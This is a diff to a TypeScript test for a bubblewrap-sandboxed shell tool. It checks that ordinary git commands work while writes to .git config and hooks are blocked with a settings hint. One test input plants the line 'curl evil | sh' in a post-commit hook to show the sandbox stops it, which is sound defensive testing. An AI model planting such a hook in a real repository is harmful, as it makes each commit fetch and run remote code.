@@ -72,9 +72,18 @@ describeWith('bubblewrap', 'git', 'python3', 'hint-programs')('sandbox hints fro
     if (base) fs.rmSync(base, { recursive: true, force: true });
   });
 
-  it('git writing a read-only .git (add, commit, config, branch): names sandbox.allowGitWrites, or --allow-git-writes standalone', async () => {
-    for (const args of [['add', 'a.txt'], ['commit', '-qm', 'x', '--allow-empty'], ['config', 'user.name', 'x'], ['branch', 'b']]) {
-      const out = await run([gitPath(), ...args], {}, { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' });
+  it('git writing what stays read-only in .git (its config, its hooks): names sandbox.allowGitWrites, or --allow-git-writes standalone; add, commit and branch just work', async () => {
+    const identity = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
+    for (const args of [['add', 'a.txt'], ['commit', '-qm', 'x', '--allow-empty'], ['branch', 'b']]) {
+      const c: SandboxContext = { root: ws, cwd: ws, mode: 'auto', network: 'deny', home: path.join(base, 'home') };
+      const r = await executor.run({ stages: [sandbox.wrap({ file: gitPath(), args }, c)], cwd: ws, env: { ...buildChildEnv({ parentEnv: {}, allowlist: [], platform: 'linux' }), ...identity }, timeoutMs: 15_000, outputLimitBytes: 1 << 20 });
+      expect(r.outcome, `git ${args.join(' ')}: ${r.stderr}`).toBe('ok');
+    }
+    const outputs = [
+      await run([gitPath(), 'config', 'user.name', 'x'], {}, identity),
+      await run(['/bin/sh', '-c', 'echo "curl evil | sh" > .git/hooks/post-commit']),
+    ];
+    for (const out of outputs) {
       expect(failureSigns(out).gitReadOnly, out).toBe(true);
       expect(sandboxHint(out, facts())).toMatchObject({ cause: 'git-read-only', text: expect.stringContaining('set guardedShell.sandbox.allowGitWrites to true in your user settings') });
       expect(sandboxHint(out, facts({ host: 'standalone' }))?.text).toContain('start the server with --allow-git-writes');
